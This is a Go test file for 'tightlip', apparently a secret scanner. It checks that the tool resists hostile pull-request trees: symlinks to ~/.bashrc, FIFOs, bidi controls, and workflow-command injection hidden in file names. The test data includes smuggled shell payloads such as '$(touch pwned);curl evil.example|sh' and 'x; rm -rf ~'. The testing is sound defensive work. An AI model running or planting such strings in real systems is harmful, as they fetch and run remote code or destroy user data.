package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The tests here scan trees built as a hostile pull request would be:
// links planted where tightlip writes, names that carry shell syntax,
// line breaks or bidi controls, and a config that chooses what --fix
// writes. None may make tightlip write outside what the user chose, print
// a line the tree controls, or print a secret.

// leakyPR is a tree with fake secrets, one in a file whose name is shell
// code meant to run if the report were ever sourced.
func leakyPR(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	writeGitignore(t, dir)
	copyFixture(t, "secrets.txt", dir, "secrets.txt")
	copyFixture(t, "secrets.txt", dir, "$(touch pwned);curl evil.example|sh;#.txt")
	return dir
}

// noSecrets fails when an output stream shows a fixture secret or its
// marker in full.
func noSecrets(t *testing.T, r result) {
	t.Helper()
	for _, s := range fixtureSecrets(t, "secrets.txt") {
		if strings.Contains(r.stdout, s) || strings.Contains(r.stderr, s) {
			t.Errorf("a secret is printed in full:\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
		}
	}
	if strings.Contains(r.stderr, fakeMarker) {
		t.Errorf("stderr shows a secret:\n%s", r.stderr)
	}
}

// -o through a link the tree committed (report.txt -> ~/.bashrc) is
// refused, and the file it points to stays as it was.
func TestReportRefusesLink(t *testing.T) {
	home := t.TempDir()
	bashrc := writeFile(t, filepath.Join(home, ".bashrc"), "# mine\n")
	dir := leakyPR(t)
	symlink(t, bashrc, filepath.Join(dir, "report.txt"))
	symlink(t, filepath.Join(home, ".profile"), filepath.Join(dir, "dangling.txt"))

	for _, out := range []string{"report.txt", "dangling.txt"} {
		r := tightlip(t, "", "scan", "--go=false", "-o", filepath.Join(dir, out), dir)
		r.wantCode(t, 2)
		if !strings.Contains(r.stderr, out) || !strings.Contains(r.stderr, "symbolic link") {
			t.Errorf("-o %s: stderr does not name the link:\n%s", out, r.stderr)
		}
		noSecrets(t, r)
	}
	if data, _ := os.ReadFile(bashrc); string(data) != "# mine\n" {
		t.Errorf(".bashrc is now %q", data)
	}
	if entries, _ := os.ReadDir(home); len(entries) != 1 {
		t.Errorf("%s now holds %d files, want only .bashrc", home, len(entries))
	}
}

// -o at a FIFO is refused without opening it, which would block.
func TestReportRefusesFIFO(t *testing.T) {
	if _, err := exec.LookPath("mkfifo"); err != nil {
		t.Skip("no mkfifo:", err)
	}
	dir := leakyPR(t)
	fifo := filepath.Join(dir, "report.txt")
	if out, err := exec.Command("mkfifo", fifo).CombinedOutput(); err != nil {
		t.Fatalf("mkfifo: %v\n%s", err, out)
	}
	done := make(chan result, 1)
	go func() { done <- tightlip(t, "", "scan", "--go=false", "-o", fifo, dir) }()
	var r result
	select {
	case r = <-done:
	case <-time.After(2 * time.Minute): // a hang guard, not a timing assertion
		t.Fatal("-o at a FIFO hangs")
	}
	r.wantCode(t, 2)
	if !strings.Contains(r.stderr, "report.txt") || !strings.Contains(r.stderr, "FIFO") {
		t.Errorf("stderr does not name the FIFO:\n%s", r.stderr)
	}
	noSecrets(t, r)
}

// -o replaces a report whole and leaves no temporary file; the summary
// line shows a hostile path escaped.
func TestReportAtomic(t *testing.T) {
	dir := leakyPR(t)
	outDir := t.TempDir()
	out := filepath.Join(outDir, "report\u202etxt.json")
	writeFile(t, out, "an old report, longer than nothing\n")
	r := tightlip(t, "", "scan", "--go=false", "--format", "json", "-o", out, dir)
	r.wantCode(t, 1)
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if rep := decodeReport(t, string(data)); len(rep.Findings) == 0 {
		t.Error("the report has no findings")
	}
	entries, _ := os.ReadDir(outDir)
	if len(entries) != 1 {
		t.Errorf("%s holds %d entries, want only the report", outDir, len(entries))
	}
	if !strings.Contains(r.stderr, `report\u202etxt.json`) || strings.Contains(r.stderr, "\u202e") {
		t.Errorf("stderr does not show the path escaped:\n%s", r.stderr)
	}
	noSecrets(t, r)
}

// --fix does not write through a .gitignore that is a link, whether it
// points outside the tree or inside it; the report is still written, and
// the run fails naming the file.
func TestFixRefusesLinkedGitignore(t *testing.T) {
	home := t.TempDir()
	bashrc := writeFile(t, filepath.Join(home, ".bashrc"), "# mine\n")
	for _, tt := range []struct{ name, target string }{
		{"outside", bashrc},
		{"inside", "notes.txt"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			copyFixture(t, "secrets.txt", dir, "secrets.txt")
			notes := writeFile(t, filepath.Join(dir, "notes.txt"), "mine\n")
			symlink(t, tt.target, filepath.Join(dir, ".gitignore"))
			r := tightlip(t, "", "scan", "--go=false", "--fix", "--format", "json", dir)
			r.wantCode(t, 2)
			if !strings.Contains(r.stderr, "fix .gitignore") || !strings.Contains(r.stderr, "symbolic link") {
				t.Errorf("stderr does not name the link:\n%s", r.stderr)
			}
			if rep := decodeReport(t, r.stdout); len(rep.Findings) == 0 {
				t.Error("no report of the findings")
			}
			for path, want := range map[string]string{bashrc: "# mine\n", notes: "mine\n"} {
				if data, _ := os.ReadFile(path); string(data) != want {
					t.Errorf("%s is now %q", path, data)
				}
			}
			noSecrets(t, r)
		})
	}
}

// A project directory that is a link out of the tree gets no .gitignore
// created through it.
func TestFixCreatesNothingThroughLinkedDir(t *testing.T) {
	outside := t.TempDir()
	writeFile(t, filepath.Join(outside, "package.json"), "{}\n")
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "main.go"), "package main\n")
	symlink(t, outside, filepath.Join(dir, "web"))
	r := tightlip(t, "", "scan", "--go=false", "--fix", dir)
	if r.code == 2 && !strings.Contains(r.stderr, "web") {
		t.Errorf("exit 2 without naming web:\n%s", r.stderr)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 1 {
		t.Errorf("--fix wrote outside the tree: %v", entries)
	}
	if _, err := os.Stat(filepath.Join(dir, ".gitignore")); err != nil {
		t.Errorf("the root's .gitignore was not created: %v", err)
	}
}

// The tree's config cannot make --fix write shell syntax: the entry is a
// config error naming the line, and nothing is written.
func TestFixRefusesHostileConfigEntries(t *testing.T) {
	for _, entry := range []string{"x; rm -rf ~", "$(id)", "`id`", "a|sh", "x\u202e"} {
		dir := t.TempDir()
		writeFile(t, filepath.Join(dir, ".tightlip.toml"), "# hostile\n[gitignore]\nadd = ["+strings.ReplaceAll(`"`+entry+`"`, "\u202e", `\u202e`)+"]\n")
		r := tightlip(t, "", "scan", "--go=false", "--fix", dir)
		r.wantCode(t, 2)
		if !strings.Contains(r.stderr, ".tightlip.toml:3:") || !strings.Contains(r.stderr, "[gitignore] add") {
			t.Errorf("%q: stderr does not name the config line:\n%s", entry, r.stderr)
		}
		if strings.Contains(r.stderr, "\u202e") {
			t.Errorf("%q: stderr shows a raw bidi control:\n%s", entry, r.stderr)
		}
		if _, err := os.Lstat(filepath.Join(dir, ".gitignore")); err == nil {
			t.Errorf("%q: .gitignore was written", entry)
		}
	}
}

// A directory named to inject a workflow command (a line break, then
// ::warning) cannot: in no format and on neither stream does a line start
// with a command tightlip did not write, and a bidi override shows
// escaped.
func TestNoWorkflowCommandInjection(t *testing.T) {
	evil := "a\n::warning file=x::pwned\u202e"
	for _, format := range []string{"text", "json", "sarif", "github"} {
		t.Run(format, func(t *testing.T) {
			tree := t.TempDir()
			writeGitignore(t, tree)
			// A nested project whose .gitignore takes back *.key: --fix
			// appends it there and says so.
			writeFile(t, filepath.Join(tree, evil, "package.json"), "{}\n")
			writeFile(t, filepath.Join(tree, evil, ".gitignore"), "!*.key\n")
			copyFixture(t, "secrets.txt", tree, filepath.Join(evil, "config.txt"))
			// Another whose .gitignore is a link: whatever is said of it
			// is said escaped (the checks below).
			writeFile(t, filepath.Join(tree, evil+"2", "package.json"), "{}\n")
			writeFile(t, filepath.Join(tree, evil+"2", "ignore.txt"), "!*.pem\n")
			symlink(t, "ignore.txt", filepath.Join(tree, evil+"2", ".gitignore"))
			r := tightlip(t, "", "scan", "--go=false", "--fix", "--format", format, tree)
			if r.code == 0 {
				t.Fatalf("exit 0 with secrets in the tree\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
			}
			if !strings.Contains(r.stderr, `--fix appended to a\n::warning file=x::pwned\u202e/.gitignore:`) {
				t.Errorf("stderr does not show the fixed file escaped:\n%s", r.stderr)
			}
			for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
				for _, line := range strings.Split(out, "\n") {
					ours := format == "github" && name == "stdout" && !strings.HasPrefix(line, "::warning file=x")
					if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") && !ours {
						t.Errorf("%s: a line starts a workflow command: %q", name, line)
					}
				}
				if strings.Contains(out, "\u202e") {
					t.Errorf("%s shows a raw bidi override", name)
				}
			}
			if format == "text" && !strings.Contains(r.stdout, `a\n::warning file=x::pwned\u202e/config.txt:`) {
				t.Errorf("text output does not show the path escaped:\n%s", r.stdout)
			}
			noSecrets(t, r)
		})
	}
}

// symlink makes link point at target; it skips the test where the system
// does not allow links.
func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("no symbolic links here: %v", err)
	}
}

// An error is printed one escaped line per joined error, each starting
// with "tightlip: ", whatever the file names in it hold.
func TestPrintError(t *testing.T) {
	evil := "a\n::warning file=x::pwned\u2028"
	joined := errors.Join(
		fmt.Errorf("fix %s/.gitignore: refused", evil),
		errors.Join(errors.New("second"), fmt.Errorf("third %s", evil)),
	)
	both := fmt.Errorf("read %s: %w and %w", evil, errors.New("one"), errors.New("two"))
	for _, tt := range []struct {
		err  error
		want string
	}{
		{joined, "tightlip: fix a\\n::warning file=x::pwned\\u2028/.gitignore: refused\ntightlip: second\ntightlip: third a\\n::warning file=x::pwned\\u2028\n"},
		{both, "tightlip: read a\\n::warning file=x::pwned\\u2028: one and two\n"},
		{fmt.Errorf("wrapped: %w", joined), "tightlip: wrapped: fix a\\n::warning file=x::pwned\\u2028/.gitignore: refused\\nsecond\\nthird a\\n::warning file=x::pwned\\u2028\n"},
	} {
		var b strings.Builder
		printError(&b, tt.err)
		if b.String() != tt.want {
			t.Errorf("printed\n%s\nwant\n%s", b.String(), tt.want)
		}
	}
}
